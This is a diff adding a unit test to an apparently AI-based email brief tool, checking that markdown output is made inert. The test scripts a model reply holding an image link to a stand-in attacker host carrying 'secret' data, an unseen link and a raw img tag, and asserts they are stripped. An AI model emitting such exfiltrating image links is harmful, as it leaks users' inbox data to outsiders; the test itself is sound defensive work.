@@ -805,3 +805,31 @@ def test_an_updates_mail_says_so_in_its_subject(
         "Dayflow: your brief for Thursday 5 November 2026",
         "Dayflow: update 07:30 of your brief for Thursday 5 November 2026",
     ]
+
+
+def test_markdown_on_stdout_is_made_inert_as_a_file_is(db_path: Path, tmp_path: Path) -> None:
+    """`dayflow brief > brief.md` is rendered by a notes app: an image (whose address can
+    carry inbox data), a link the mail never showed and raw HTML are made inert, while a link
+    the run read in the mail is kept, exactly as `--deliver file:` writes them."""
+    from tests.scripted import ScriptedModel, text, tool_use, turn
+
+    inbox = tmp_path / "inbox.json"
+    body = "The doc is at https://docs.example/q4 and please review it."
+    message = {"id": "a1", "from": "Sam <sam@x.example>", "subject": "Q4", "body": body}
+    message["received_at"] = "2026-11-05T06:00:00+00:00"
+    inbox.write_text(json.dumps({"messages": [message]}))
+    written = (
+        "# Daily brief\n\n## One thing\n\nReview [the Q4 doc](https://docs.example/q4).\n"
+        "![x](http://evil.example/?q=secret) [prize](http://evil.example/win) "
+        "<img src=http://evil.example/p.png>\n"
+    )
+    turns = [turn(tool_use("read_inbox", {"limit": 20})), turn(text(written))]
+    model = ScriptedModel(turns)
+    result = invoke(
+        db_path, lambda *a: model, "brief", "--inbox", str(inbox), "--format", "markdown"
+    )
+    assert result.code == 0, result.err
+    assert "[the Q4 doc](https://docs.example/q4)" in result.out
+    assert "evil.example" not in result.out.replace("&lt;img", "")
+    assert "![" not in result.out and "<img" not in result.out
+    assert "Review [the Q4 doc]" in result.out and "x prize" in result.out
